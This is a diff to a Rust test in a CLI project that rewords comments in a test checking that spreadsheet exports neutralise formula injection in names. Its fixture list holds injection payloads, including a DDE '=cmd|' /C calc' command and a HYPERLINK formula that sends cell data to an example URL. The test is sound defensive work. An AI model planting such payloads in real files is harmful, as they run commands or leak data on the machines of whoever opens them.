@@ -1,4 +1,4 @@
-//! Somebody who gives people and places names that a spreadsheet runs as a formula, and waits for a colleague to open
+//! A person who gives people and places names that a spreadsheet runs as a formula, and waits until a colleague opens
 //! an export.
 
 use std::path::Path;
@@ -11,7 +11,7 @@ use wfm_cli::{Environment, resources};
 use wfm_testkit::Service;
 use wfm_testkit::service::PASSWORD;
 
-/// Text that a spreadsheet runs. A tab or a carriage return does not get into a name (rule API-97).
+/// Texts that a spreadsheet runs. A tab or a carriage return cannot be part of a name (rule API-97).
 const FORMULAS: [&str; 5] = [
     "=HYPERLINK(\"https://example.com/?\"&A1,\"open\")",
     "=cmd|' /C calc'!A0",
@@ -58,13 +58,13 @@ async fn no_cell_of_an_export_is_a_formula() {
         resources::export::run(&args, &environment, &mut vec![], |_| {}).await.unwrap();
         let cells = cells(&out);
         for formula in FORMULAS {
-            // With the apostrophe, a text that is shown as it is.
+            // With the apostrophe, the text is shown and not run.
             let shown = cells.iter().filter(|cell| cell.starts_with(&format!("'{formula}")));
             assert!(shown.count() >= least, "{list}: {formula} in {cells:?}");
         }
         let runs = |cell: &&String| cell.starts_with(['=', '+', '-', '@', '\t']);
         let run: Vec<_> = cells.iter().filter(runs).collect();
-        // Numbers of our own.
+        // Numbers that the service wrote.
         assert!(run.iter().all(|cell| cell.parse::<f64>().is_ok()), "{list}: {run:?}");
     }
 }
